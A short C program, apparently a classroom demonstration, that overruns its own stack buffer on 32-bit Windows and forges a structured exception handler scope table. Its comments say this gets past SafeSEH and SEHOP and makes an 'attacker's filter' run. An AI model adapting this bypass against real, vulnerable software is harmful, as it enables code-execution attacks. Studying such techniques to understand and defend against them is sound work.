/*
 * A cleverer overrun: Next and Handler stay what
 * they were, and a forged scope table takes the
 * place of the real one.
 * Watch the scope table of copy's record. SafeSEH
 * and SEHOP have nothing to complain of.
 */
#include <windows.h>
#include <stdio.h>

static int stolen(void)
{
    printf("the attacker's filter runs\n");
    ExitProcess(1);
    return 0;
}

/* Level 0: inside nothing, filter, __except block. */
static DWORD forged[] = { 0xFFFFFFFF, (DWORD)stolen, (DWORD)stolen };

static void copy(void)
{
    char buffer[16];
    DWORD *record = (DWORD *)__readfsdword(0);
    DWORD *word = (DWORD *)buffer;

    __try {
        while (word < record)
            *word++ = 0x41414141;   /* far beyond buffer's end */
        record[2] = (DWORD)forged;  /* two words left as they are */
        *(volatile int *)0 = 1;     /* a fault */
    } __except (EXCEPTION_EXECUTE_HANDLER) {
        printf("__except block of copy\n");
    }
}

int main(void)
{
    copy();
    printf("still here\n");
    return 0;
}
